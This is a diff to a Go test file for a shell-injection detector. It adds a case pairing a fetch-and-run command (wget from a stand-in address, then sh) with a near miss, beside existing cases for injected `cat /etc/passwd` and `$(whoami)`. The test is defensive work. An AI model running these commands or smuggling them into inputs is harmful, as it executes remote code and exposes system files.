@@ -13,6 +13,7 @@ var detector = detecttest.Detector{Gate: Gate, Scan: Scan, Signs: Signs}
 // TestSigns holds every sign to a value that shows it and to one that nearly does.
 func TestSigns(t *testing.T) {
 	f := detector.CheckSigns(t, &asksShell) // TestOrdered
+	f(&dropped, point.Text, `cd /tmp; wget http://203.0.113.9/k; sh k`, `cd /tmp; wget http://10.0.0.9/k; sh k`)
 	f(&separated, point.Text, `1;cat /etc/passwd`, `a; catalogue`)
 	f(&substituted, point.Text, `$(whoami)`, `$(document)`)
 	f(&leading, point.Text, `cat /etc/passwd`, `catalogue of things`)
